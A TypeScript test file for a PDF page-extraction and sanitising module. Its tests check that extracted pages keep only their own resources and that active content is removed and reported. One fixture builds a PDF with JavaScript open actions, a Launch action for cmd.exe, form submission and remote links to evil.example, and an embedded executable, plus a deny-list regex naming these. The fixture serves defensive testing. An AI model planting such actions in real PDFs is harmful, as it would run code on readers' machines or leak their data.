import { PDFDocument } from '@cantoo/pdf-lib'
import { expect, test } from 'vitest'
import { renderBitmaps } from '#test-support/pdf-pages.ts'
import { catalog, deflatedStream, page, pageTree, rawPdf, rawStream } from '#test-support/raw-pdf.ts'
import { extractPages, inspectPdf } from './extract-pages.ts'
import { toPdfFile } from './pdf-file.ts'

const metadata = { title: 'Medical record', author: 'Portal' }
const cut = (bytes: Uint8Array, first = 1, last = first) =>
  extractPages([{ file: toPdfFile(bytes), first, last }], metadata)
const wordsIn = (pdf: Uint8Array) => Buffer.from(pdf).toString('latin1')

const form = (entries: string, content: string) =>
  rawStream(`/Type /XObject /Subtype /Form /BBox [0 0 200 200] ${entries}`, content)
const box = 'q 0 0 1 rg 20 20 60 60 re f Q'

/** Two pages that share resources defined in the page tree. */
const twoPages = (...objects: (string | Buffer)[]) =>
  rawPdf([
    catalog,
    `<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] /Resources 5 0 R >>`,
    page('/Contents 6 0 R'),
    page('/Contents 7 0 R'),
    ...objects,
  ])

test('an extracted page has no resources that only another page uses', async () => {
  const bytes = twoPages(
    '<< /XObject << /Own 8 0 R /Other 9 0 R >> /Font << /F1 10 0 R /F2 11 0 R >> >>',
    rawStream('', '/Own Do BT /F1 12 Tf (one) Tj ET'),
    rawStream('', '/Other Do BT /F2 12 Tf (two) Tj ET'),
    form('', `${box} % OWNFORM`),
    form('', `${box} % SECRETSECONDPAGE`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /SecretFont >>',
  )
  const words = wordsIn(await cut(bytes))
  expect(words).toContain('OWNFORM')
  expect(words).toContain('Helvetica')
  expect(words).not.toMatch(/SECRETSECONDPAGE|SecretFont|\(two\)/)
  expect(wordsIn(await cut(bytes, 2))).toMatch(/SECRETSECONDPAGE/)
})

test('a form keeps only the resources that it uses', async () => {
  const bytes = twoPages(
    '<< /XObject << /Own 8 0 R >> >>',
    rawStream('', '/Own Do'),
    rawStream('', 'q Q'),
    form('/Resources << /XObject << /Inner 9 0 R /Other 10 0 R >> >>', '/Inner Do'),
    form('', `${box} % INNER`),
    form('', `${box} % SECRETSECONDPAGE`),
  )
  const words = wordsIn(await cut(bytes))
  expect(words).toContain('INNER')
  expect(words).not.toContain('SECRET')
})

test('keeps the resources used by a form without its own resources', async () => {
  const bytes = twoPages(
    '<< /XObject << /Own 8 0 R /Inner 9 0 R /Other 10 0 R >> >>',
    rawStream('', '/Own Do'),
    rawStream('', '/Other Do'),
    form('', '/Inner Do'),
    form('', `${box} % INNER`),
    form('', `${box} % SECRET`),
  )
  const words = wordsIn(await cut(bytes))
  expect(words).toContain('INNER')
  expect(words).not.toContain('SECRET')
})

test('in damaged content, keeps only the resources used before the damage', async () => {
  const content = deflatedStream(
    '',
    `/Own Do ${Array.from({ length: 3000 }, (_, at) => `${at * 7919} `).join('')} /Other Do`,
  )
  content.fill(255, content.length - 2000, content.length - 20)
  const bytes = twoPages(
    '<< /XObject << /Own 8 0 R /Other 9 0 R >> >>',
    content,
    rawStream('', '/Other Do'),
    form('', `${box} % OWNFORM`),
    form('', `${box} % SECRET`),
  )
  const words = wordsIn(await cut(bytes))
  expect(words).toContain('OWNFORM')
  expect(words).not.toContain('SECRET')
})

test.each([
  ['a comment', 'q /Own Do Q % see /Other'],
  ['a string', '/Own Do BT (photo \\( /Other (Do) ) Tj ET'],
  ['a hexadecimal string', '/Own Do BT <2F> Tj ET'],
  ['a font operator', '/Own Do BT /Other 12 Tf ET'],
  ['a marked-content operator', '/Own Do /Other BMC EMC'],
  ['image data', 'BI /W 4 /H 1 /CS /G /BPC 8 ID /Other Do\nEI Q\n/Own Do'],
])('drops a form that is named only in %s', async (_where, content) => {
  const bytes = twoPages(
    '<< /XObject << /Own 8 0 R /Other 9 0 R >> >>',
    rawStream('', content),
    rawStream('', '/Other Do'),
    form('', `${box} % OWNFORM`),
    form('', `${box} % SECRETSECONDPAGE`),
  )
  const words = wordsIn(await cut(bytes))
  expect(words).toContain('OWNFORM')
  expect(words).not.toContain('SECRET')
})

test('keeps a form whose name and operator are in separate streams of the page', async () => {
  const bytes = rawPdf([
    catalog,
    pageTree(3),
    page('/Contents [4 0 R 5 0 R] /Resources << /XObject << /Own 6 0 R >> >>'),
    rawStream('', '/Own'),
    rawStream('', 'Do'),
    form('', `${box} % OWNFORM`),
  ])
  expect(wordsIn(await cut(bytes))).toContain('OWNFORM')
})

const blank = Buffer.alloc(200 * 200 * 4, 255).toString('base64')

test.each([
  [
    'an image in its content, with brackets and names in its bytes',
    'q 90 0 0 90 9 9 cm BI /W 4 /H 4 /CS /G /BPC 8 ID ((/Xy(<</[(<<(((\nEI Q /Fm Do',
  ],
  ['a form', '/Fm Do'],
  ['a name with an escape', '/F#6d Do'],
  ['a name with a byte that is blank elsewhere', '/F\u00a0 Do'],
  ['a pattern', '/Pattern cs /P1 scn 9 9 150 150 re f'],
  ['a shading', '/Sh1 sh'],
  ['a soft mask', '/GS1 gs 1 0 0 rg 9 9 150 150 re f'],
  ['a font whose characters are drawn', 'BT /T3 60 Tf 20 20 Td (a) Tj ET'],
  ['a color space', '/Cs1 cs 0.5 scn 9 9 150 150 re f'],
  ['an optional layer', '/OC /L1 BDC 0 1 0 rg 9 9 99 99 re f EMC'],
])('an extracted page with %s looks the same', async (_what, content) => {
  const bytes = rawPdf([
    catalog,
    pageTree(3),
    page('/Contents 4 0 R /Resources 5 0 R'),
    deflatedStream('', content),
    `<< /XObject << /Fm 6 0 R /F\u00a0 6 0 R >> /Pattern << /P1 7 0 R >> /Shading << /Sh1 8 0 R >> /ExtGState << /GS1 9 0 R >>
       /Font << /T3 10 0 R >> /ColorSpace << /Cs1 [/Separation /Ink /DeviceRGB 11 0 R] >> /Properties << /L1 13 0 R >> >>`,
    form('/Resources << /XObject << /In 12 0 R >> >>', '/In Do'),
    rawStream(
      '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 20 20] /XStep 20 /YStep 20 /Resources << /XObject << /In 12 0 R >> >>',
      '.2 0 0 .2 0 0 cm /In Do',
    ),
    '<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 200 0] /Function 11 0 R /Extend [true true] >>',
    '<< /Type /ExtGState /SMask << /S /Luminosity /G 14 0 R >> >>',
    '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /AA] >> /CharProcs << /AA 15 0 R >> /Resources << /XObject << /In 12 0 R >> >> >>',
    '<< /FunctionType 2 /Domain [0 1] /C0 [1 0 0] /C1 [0 0 1] /N 1 >>',
    form('', box),
    '<< /Type /OCG /Name (Layer) >>',
    form('/Group << /S /Transparency /CS /DeviceGray >>', '1 g 40 40 60 60 re f'),
    rawStream('', '1 0 d0 .005 0 0 .005 0 0 cm /In Do'),
  ])
  const [before] = await renderBitmaps(bytes)
  expect(before).not.toBe(blank)
  expect((await renderBitmaps(await cut(bytes)))[0]).toBe(before)
})

/** A page and a document with every kind of active content. */
const activePdf = () =>
  rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (ONOPEN) >>
        /AcroForm << /Fields [7 0 R] /XFA (XFAFORM) /CO [19 0 R] >> /Names << /EmbeddedFiles << /Names [(a) 13 0 R] >> >> >>`,
    pageTree(3, 4),
    page(`/AA << /O << /S /JavaScript /JS (PAGEOPENED) >> >> /Metadata 5 0 R /PieceInfo << /App << /Private (PRIVATE) >> >>
          /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R 14 0 R 16 0 R] /Contents 15 0 R /AF [13 0 R]
          /Resources << /Properties << /MC0 << /Metadata 5 0 R >> >> /XObject << /X1 20 0 R /X2 21 0 R >> >>`),
    page('/Contents 15 0 R'),
    rawStream('/Type /Metadata /Subtype /XML', '<x>METADATA</x>'),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/kept) /Next << /S /JavaScript /JS (NEXT) >> >> >>',
    '<< /Type /Annot /Subtype /Widget /Parent 22 0 R /FT /Tx /T (WIDGET) /Rect [20 20 99 99] /F 4 /AP << /N 17 0 R >> /A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K << /S /JavaScript /JS (KEYSTROKE) >> >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>',
    String.raw`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\evil.example\\share) >> >>`,
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>',
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets 13 0 R >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:RUNS) >> >>',
    '<< /Type /Filespec /F (FILE.exe) /EF << /F 18 0 R >> >>',
    '<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (A remark) /Popup 16 0 R /Parent 4 0 R >>',
    rawStream('', '/Artifact /MC0 BDC EMC /X1 Do /X2 Do 1 0 0 rg 120 120 40 40 re f'),
    '<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 14 0 R >>',
    form('/PieceInfo << /App << /Private (PRIVATE) >> >>', box),
    rawStream('/Type /EmbeddedFile', 'MZ EMBEDDED'),
    '<< /T (CALCULATED) /AA << /C << /S /Sound /Sound 18 0 R >> >> >>',
    rawStream('/Type /XObject /Subtype /PS', '(POSTSCRIPT) print'),
    rawStream('/Type /XObject /Subtype /Image /Width 1 /Height 1 /F (//evil.example/image)', 'x'),
    '<< /T (PARENT) /AA << /F << /S /ImportData /F (PARENT) >> >> >>',
  ])

test('removes active content and metadata but keeps visible content and web links', async () => {
  const bytes = activePdf()
  const words = wordsIn(await cut(bytes))
  expect(words).not.toMatch(
    /JavaScript|ONOPEN|XFA|PAGEOPENED|METADATA|PRIVATE|NEXT|Widget|WIDGET|SubmitForm|evil|KEYSTROKE|Launch|cmd\.exe|GoToR|FileAttachment|FILE|RichMedia|RUNS|EMBEDDED|Popup|CALCULATED|POSTSCRIPT|PARENT/,
  )
  expect(words).toContain('(https://example.com/kept)')
  expect(words).toContain('(A remark)')
  expect((await PDFDocument.load(await cut(bytes))).getPageCount()).toBe(1)
  expect((await renderBitmaps(await cut(bytes)))[0]).not.toBe(blank)
})

test('keeps form field values visible', async () => {
  const words = wordsIn(await cut(activePdf()))
  expect(words).toMatch(/\/Subtype \/Stamp/)
  expect(words).toContain(box)
})

test('lists the kinds of active content when a PDF is scanned', async () => {
  expect(await inspectPdf(toPdfFile(activePdf()))).toEqual({
    pages: 2,
    active: [
      'EmbeddedFiles',
      'ExternalStream',
      'FileAttachment',
      'GoToR',
      'ImportData',
      'JavaScript',
      'Launch',
      'PostScript',
      'RichMedia',
      'Sound',
      'SubmitForm',
      'URI',
      'XFA',
    ],
  })
})

test('finds no active content in a PDF without any', async () => {
  expect((await inspectPdf(toPdfFile(rawPdf([catalog, pageTree(3), page()])))).active).toEqual([])
})
